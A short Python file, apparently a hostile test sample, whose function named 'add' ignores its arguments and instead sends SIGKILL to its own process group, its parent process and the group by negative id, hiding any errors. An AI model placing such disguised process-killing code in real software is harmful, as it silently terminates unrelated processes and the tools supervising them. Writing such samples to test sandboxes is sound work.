"""Kills its process group, in which others may be that its process namespace does not show."""

KIND = "call"
import os
import signal


def add(a, b):
    for who in (0, os.getppid(), -os.getpgrp()):
        try:
            os.kill(who, signal.SIGKILL)
        except OSError:
            pass
